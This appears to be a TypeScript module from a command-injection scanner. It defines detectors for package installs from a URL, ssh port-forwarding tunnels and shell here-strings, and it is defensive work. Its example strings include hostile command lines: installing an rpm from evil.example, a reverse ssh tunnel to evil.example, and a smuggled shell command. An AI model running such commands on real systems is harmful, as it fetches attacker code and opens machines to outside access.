import { NAMED, PLAIN, SURE, word } from "../keywords.ts";
import type { Pattern } from "../pattern.ts";
import { BEGINNING, commandContext, nameEndsAt, NOWHERE } from "../shell_grammar.ts";
import { BOUND, NUMBER, type Tokens, WORD } from "../tokens.ts";

const RPM = word("rpm"), DEV = word("dev"), STDIN = word("stdin");
const SLASH = 0x2f, COLON = 0x3a, MINUS = 0x2d, DOT = 0x2e, LESS = 0x3c, SEMICOLON = 0x3b, PIPE = 0x7c, DOLLAR = 0x24;
/** How far behind its name the arguments of a program are looked at. */
const MAX_ARGUMENTS = 24;

/** `; rpm -i http://…`, `gem install http://…`: a package that somebody else made is installed. */
function isInstallation(t: Tokens, i: number): boolean {
  const context = commandContext(t, i);
  if (context === NOWHERE) return false;
  const behind = nameEndsAt(t, i);
  if (!t.spaced(behind)) return false;
  if (t.word[i] === RPM && t.kind[behind] === MINUS && t.glued(behind + 1) && t.kind[behind + 1] === WORD) {
    // A unit has no options, and a dash behind it has a space on either side.
    if (context !== BEGINNING) return true;
  }
  // Their arguments: an option or one word, then an address.
  const first = t.kind[behind] as number;
  if (first !== WORD && (first !== MINUS || !t.glued(behind + 1))) return false;
  for (let at = behind; at < behind + MAX_ARGUMENTS; at++) {
    const kind = t.kind[at] as number;
    if (kind === BOUND || kind === SEMICOLON || kind === PIPE) break;
    if (kind === COLON && t.kind[at + 1] === SLASH && t.kind[at + 2] === SLASH && t.glued(at) && t.glued(at + 1)) {
      return context !== BEGINNING || first === MINUS;
    }
  }
  return false;
}

/** `ssh -R 2222:localhost:22 u@h`: a port of this machine is opened to another, or one of another to it. */
function isTunnel(t: Tokens, i: number): boolean {
  if (commandContext(t, i) === NOWHERE) return false;
  const behind = nameEndsAt(t, i);
  for (let at = behind; at < behind + MAX_ARGUMENTS; at++) {
    const kind = t.kind[at] as number;
    if (kind === BOUND || kind === SEMICOLON || kind === PIPE) return false;
    if (kind !== MINUS || !t.spaced(at) || !t.glued(at + 1) || t.kind[at + 1] !== WORD) continue;
    const last = t.bytes[(t.end[at + 1] as number) - 1] as number;
    // -R, -L, -D, and with other letters before: -fNR
    if (last !== 0x52 && last !== 0x4c && last !== 0x44) {
      // -R2222:localhost:22
      if (t.kind[at + 2] === COLON && isForwarded(t, at + 1)) return true;
      continue;
    }
    const port = at + 2;
    if (last === 0x44 && t.kind[port] === NUMBER) return true;
    for (let n = port; n < port + 8 && !(n > port && t.spaced(n)) && t.kind[n] !== BOUND; n++) {
      if (t.kind[n] === COLON) return true;
    }
  }
  return false;
}

/** `R2222` begins at `i`. */
function isForwarded(t: Tokens, i: number): boolean {
  const start = t.start[i] as number;
  const first = t.bytes[start] as number;
  const second = t.bytes[start + 1] as number;
  return (first === 0x52 || first === 0x4c) && second >= 0x30 && second <= 0x39;
}

/** `; . /dev/stdin <<< 'id'`, `;cat<<<$x`: a text that a shell gives to a program. */
function isHereString(t: Tokens, i: number): boolean {
  if (!t.glued(i + 1) || t.kind[i + 1] !== LESS || t.kind[i + 2] !== LESS || !t.glued(i + 2)) return false;
  if (t.kind[i - 1] === LESS || t.kind[i + 3] === LESS) return false;
  const text = t.kind[i + 3] as number;
  if (!t.isQuote(i + 3) && text !== DOLLAR && text !== WORD && text !== BOUND) return false;
  for (let at = i - 1; at > i - 16; at--) {
    const kind = t.kind[at] as number;
    if (kind === BOUND) return false;
    // . /dev/stdin
    if (kind === DOT && t.spaced(at + 1) && t.kind[at + 1] === SLASH) {
      return t.word[at + 2] === DEV && t.word[at + 4] === STDIN;
    }
    if (kind !== SEMICOLON && kind !== PIPE && kind !== 0x26) continue;
    return t.kind[at + 1] === WORD && ((t.bits[at + 1] as number) & (SURE | NAMED | PLAIN)) !== 0;
  }
  return false;
}

/** Programs that bring in what others made, or let others in. */
export const REMOTE_PROGRAMS = {
  installation: {
    name: "cmd-install",
    category: "command-injection",
    severity: "high",
    catches: "A package manager behind a separator that installs from an address",
    example: "; rpm -i http://evil.example/x.rpm",
    nearMiss: "fan 1; rpm -12; rpm - see http://h/x; gem of a day",
    at: ["rpm", "gem", "yarn", "conda", "pip", "pip3", "npm", "dnf", "yum"].map(word),
    gate: "separator",
    test: isInstallation,
  },
  tunnel: {
    name: "cmd-tunnel",
    category: "command-injection",
    severity: "high",
    catches: "ssh with ports that are forwarded, which lets others into the network",
    example: "ssh -fN -R 2222:localhost:22 u@evil.example",
    nearMiss: "ssh -p 22 host, and ssh -L is for tunnels",
    at: ["ssh", "autossh", "plink"].map(word),
    gate: "separator",
    test: isTunnel,
  },
  hereString: {
    name: "cmd-here-string",
    category: "command-injection",
    severity: "medium",
    catches: "A text given to a program behind a separator, as shells have it",
    example: "; . /dev/stdin <<< 'id'",
    nearMiss: "<<< back; see <<< 'a' <<<<<<< HEAD",
    at: ["<<"],
    test: isHereString,
  },
} as const satisfies Readonly<Record<string, Pattern>>;
